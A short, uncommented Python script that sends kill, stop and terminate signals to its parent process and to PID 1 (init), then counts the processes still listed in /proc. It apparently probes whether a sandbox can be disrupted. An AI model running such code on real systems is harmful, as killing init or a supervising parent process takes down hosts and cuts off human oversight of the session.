import os, signal
for process in [os.getppid(), 1, -1]:
    for number in [signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM]:
        try:
            if process == -1:
                continue
            os.kill(process, number)
        except OSError:
            pass
others = [name for name in os.listdir("/proc") if name.isdigit()]
print("alive among", len(others))
